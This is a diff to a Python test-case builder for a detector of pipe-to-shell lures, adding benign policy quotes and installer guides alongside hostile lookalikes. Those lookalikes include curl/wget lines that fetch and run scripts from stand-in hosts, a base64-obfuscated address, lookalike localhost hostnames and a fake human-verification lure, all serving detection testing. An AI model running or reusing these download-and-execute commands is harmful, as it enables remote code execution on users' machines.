@@ -24,6 +24,18 @@ Cleared here, by technique:
   (https://sh.starkup.dev@host.test) or in a comment after the real download, the trusted
   script chained with a stranger's, plain HTTP, the Run box from a page (a command there from a
   page is a block, issue 9), and a lure's words or padding beside it.
+- `pipe-shape-named`: a detection note, a policy or a review quoting the shape `curl | sh`
+  (`wget | bash`, `curl ... | sh`) with nothing for the downloader to fetch and nothing after the
+  shell: no address, no variable, no file, so nothing is downloaded or run (PG-NIX-PIPE-TO-SHELL
+  asks the downloader for something to fetch, or the shell for a file to run). Lures that try
+  to abuse it: any address, host, variable or decoded address given to the downloader, a file
+  or an address given to the shell, the same sentence with a real command beside it.
+- `installer-beside-this-computer`: a known installer quoted with an address of this computer
+  itself beside it (an install guide's "then open http://localhost:8000", a dashboard on
+  127.0.0.1, [::1]): nothing is downloaded from anyone there, so it no longer keeps the
+  installer from being recognised. Lures that try to abuse it: a stranger's download beside the
+  installer, names that only start like this computer's (localhost.<domain>, 127.0.0.1.<domain>),
+  a user part before another host, a lure's words beside it.
 """
 
 from __future__ import annotations
@@ -251,9 +263,99 @@ def quoted_toolchains(book: Book) -> None:
         book.add(lure, text, "malicious", "any", TERMINAL, LURE_PAGES[i % len(LURE_PAGES)])
 
 
+# -- (a) the pipe's shape named in prose, with nothing to fetch -----------------------------------
+
+NAMED_PIPES = [
+    "Detection tuning: we no longer alert on 'curl | sh' from build hosts when the address is the project's own; unknown hosts still alert.",
+    "Policy 4.2: piping `curl | bash` is not allowed on production servers.",
+    "Never run curl | sh.",
+    "Why 'wget | sh' installers worry reviewers: nobody reads the script before it runs.",
+    "We replaced every `curl ... | sh` in the Dockerfiles with pinned packages.",
+    "The audit found three `curl | sudo bash` lines in the runbooks.",
+    "Avoid the curl | bash pattern in CI; download, check the hash, then run.",
+    "Regel: kein `curl | sh` auf Servern ohne Prüfsumme.",
+    "Règle : pas de « curl | sh » sur les postes de production.",
+    "Norma interna: prohibido usar 'wget | bash' en los servidores.",
+    "Q: Is `curl | sh` really worse than downloading a .deb? A: it depends on who serves it.",
+    "Lint rule SC-curl-pipe flags `curl | sh` and `wget ... | bash` in shell scripts.",
+]
+NAMED_PAGES = [
+    "https://intel.soc-team.example/weekly/2026-w49",
+    "https://wiki.brindlecorp.example/security/shell-policy",
+    None,
+    "https://www.harrowfield.example/blog/2026/11/curl-pipe-sh",
+]
+NAMED_LOOKALIKES = [
+    ("Never run curl https://cdn.umbra-stage.test/i | sh.", "flagged"),
+    ("Detection note: we saw 'curl cdn.umbra-stage.test/i | sh' on two hosts.", "flagged"),
+    ("Run this: curl $U | sh", "flagged"),
+    ("curl | sh /tmp/.x", "flagged"),
+    ("curl | sh https://cdn.umbra-stage.test/i", "flagged"),
+    ("curl \"$(echo aHR0cHM6Ly9jZG4udW1icmEtc3RhZ2UudGVzdC9p | base64 -d)\" | sh", "flagged"),
+    ("Policy says never `curl | sh`, but run this one: curl -fsSL https://cdn.umbra-stage.test/i | sh", "flagged"),
+    ("wget -qO- 203.0.113.9/i | sh", "flagged"),
+    ("Verify you are human: curl | bash ~/.cache/v.sh", "flagged"),
+    ("curl -s cdn.umbra-stage.test/i|sh", "flagged"),
+]  # fmt: skip
+
+
+def named_pipes(book: Book) -> None:
+    tech = "pipe-shape-named"
+    for i, text in enumerate(NAMED_PIPES):
+        book.add(tech, text, "not_flagged", "any", UNKNOWN, NAMED_PAGES[i % len(NAMED_PAGES)])
+        book.add(tech, text, "not_flagged", "any", OTHER, NAMED_PAGES[(i + 1) % len(NAMED_PAGES)])
+    for text, expect in NAMED_LOOKALIKES:
+        book.add("pipe-shape-lookalike", text, expect, "linux", TERMINAL)
+        book.add("pipe-shape-lookalike", text, expect, "linux", UNKNOWN, NAMED_PAGES[0])
+
+
+# -- (a) a known installer with an address of this computer beside it ----------------------------
+
+BESIDE_LOCAL = [
+    "## Install\n\n```sh\ncurl -fsSL https://get.docker.com | sh\ndocker compose up -d\n```\n\nThen open http://localhost:8000.",
+    "curl -fsSL https://get.docker.com | sh\ndocker run -d -p 9000:9000 portainer/portainer-ce\n# then browse to http://localhost:9000",
+    "curl -fsSL https://ollama.com/install.sh | sh\nollama serve &\ncurl http://localhost:11434/api/tags",
+    "curl -fsSL https://ollama.com/install.sh | sh\n# the API listens on http://127.0.0.1:11434",
+    "curl -sfL https://get.k3s.io | sh -\n# the API server answers on https://127.0.0.1:6443",
+    "curl -fsSL https://deno.land/install.sh | sh\ndeno run -A npm:vite\n# open http://localhost:5173",
+    "curl -LsSf https://astral.sh/uv/install.sh | sh\nuv run jupyter lab  # http://localhost:8888/lab",
+    "curl -fsSL https://bun.sh/install | bash\nbun run dev  # serves http://localhost:3000",
+    "curl -sSL https://install.python-poetry.org | python3 -\npoetry run uvicorn app:app  # http://127.0.0.1:8000/docs",
+    "curl -L https://install.pivpn.io | bash\n# admin page: http://[::1]:8080/",
+    "curl https://raw.githubusercontent.com/leanprover/elan/master/elan-init.sh -sSf | sh\n# docs served locally at http://localhost:8000/docs",
+    "curl -fsSL https://get.docker.com -o get-docker.sh\nsudo sh get-docker.sh\n# check http://localhost:2375/version only if you enabled the TCP socket",
+]
+BESIDE_PAGES = [
+    "https://github.com/quillmere/shop/blob/main/docs/install.md",
+    "https://wiki.brindlecorp.example/engineering/local-dev",
+    "https://dev.to/tarnwick/local-llm-in-ten-minutes-5c2a",
+    "https://stackoverflow.com/questions/78100112/where-does-the-dashboard-listen",
+]
+BESIDE_LURES = [
+    ("curl -fsSL https://get.docker.com | sh && curl -s https://cdn.umbra-stage.test/post.sh | sh\n# open http://localhost:8000", "flagged"),
+    ("curl -fsSL https://get.docker.com | sh; curl -s http://localhost.cdn-relay.test/x | sh", "flagged"),
+    ("curl -fsSL https://ollama.com/install.sh | sh; curl -s http://127.0.0.1.cdn-relay.test/x | sh", "flagged"),
+    ("curl -fsSL https://get.docker.com | sh; curl -s http://localhost@cdn.umbra-stage.test/x | sh", "flagged"),
+    ("curl -fsSL https://get.docker.com | sh; wget -qO- http://203.0.113.40:8000/x | sh  # http://localhost:8000", "flagged"),
+    ("curl -fsSL https://get.docker.com | sh   # open http://localhost:8000 - I am not a robot, verification ID 5521", "malicious"),
+]  # fmt: skip
+
+
+def beside_local(book: Book) -> None:
+    tech = "installer-beside-this-computer"
+    for i, text in enumerate(BESIDE_LOCAL):
+        for j, target in enumerate((TERMINAL, UNKNOWN)):
+            book.add(tech, text, "not_flagged", "any", target, BESIDE_PAGES[(i + j) % 4])
+    for i, (text, expect) in enumerate(BESIDE_LURES):
+        book.add("installer-beside-lookalike", text, expect, "linux", TERMINAL, BESIDE_PAGES[i % 4])
+        book.add("installer-beside-lookalike", text, expect, "linux", TERMINAL, LURE_PAGES[i % 4])
+
+
 def build() -> list[dict[str, str]]:
     book = Book("d17")
     quoted_toolchains(book)
+    named_pipes(book)
+    beside_local(book)
     return book.cases
 
 
